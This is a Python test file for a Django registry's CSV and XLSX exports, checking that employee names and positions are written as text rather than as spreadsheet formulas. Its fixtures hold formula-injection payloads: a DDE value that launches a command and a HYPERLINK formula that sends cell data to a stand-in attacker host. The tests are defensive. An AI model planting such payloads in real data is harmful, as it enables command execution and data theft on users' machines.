"""Names and positions sent by a partner system are text in the register's exports, never formulas."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from registry.factories import EmployeeFactory
from registry.models import ImportJob
from registry.services.export import register_export
from registry.services.import_jobs import import_job_create, import_job_preview

pytestmark = pytest.mark.django_db

NAME = "=cmd|' /C calc'!A0"
POSITION = "+HYPERLINK(\"http://attacker.example/?\"&A2)"
RANK = "@SUM(1+1)"


@pytest.fixture
def hostile(agencies):
    return EmployeeFactory(agency=agencies["beltim"], unit=agencies["dinkes_beltim"], name=NAME, position=POSITION,
                           rank=RANK)


def test_the_csv_export_writes_formulas_as_text(pemda_beltim, agencies, hostile):
    out, _count, _digest = register_export(actor=pemda_beltim, agency=agencies["beltim"],
                                           file_format="csv")
    lines = list(csv.reader(io.StringIO(out.read().decode("utf-8-sig")), delimiter=";"))
    row = next(line for line in lines if hostile.nip in line)
    assert "'" + NAME in row and "'" + POSITION in row and "'" + RANK in row
    assert not [cell for line in lines for cell in line if cell.startswith(("=", "+", "-", "@"))]


def test_the_xlsx_export_has_string_cells_only_for_text(pemda_beltim, agencies, hostile):
    out, _count, _digest = register_export(actor=pemda_beltim, agency=agencies["beltim"],
                                           file_format="xlsx")
    sheet = load_workbook(out).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert cells and {cell.data_type for cell in cells} == {"s"}  # no "f" (formula) cell
    values = {cell.value for cell in cells}
    assert {"'" + NAME, "'" + POSITION, "'" + RANK, hostile.nip} <= values  # the NIP stays an 18-digit text


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_neutralised_export_imports_back_unchanged(django_capture_on_commit_callbacks, pemda_beltim, agencies,
                                                       hostile, file_format):
    out, _count, _digest = register_export(actor=pemda_beltim, agency=agencies["beltim"],
                                           file_format=file_format)
    upload = SimpleUploadedFile(f"ekspor.{file_format}", out.read())
    job = import_job_create(actor=pemda_beltim, agency=agencies["beltim"], upload=upload)
    with django_capture_on_commit_callbacks(execute=True):
        import_job_preview(job=job, actor=pemda_beltim, mapping=job.mapping)
    job.refresh_from_db()
    assert job.state == ImportJob.State.PREVIEWED and (job.rows_unchanged, job.rows_changed) == (1, 0)
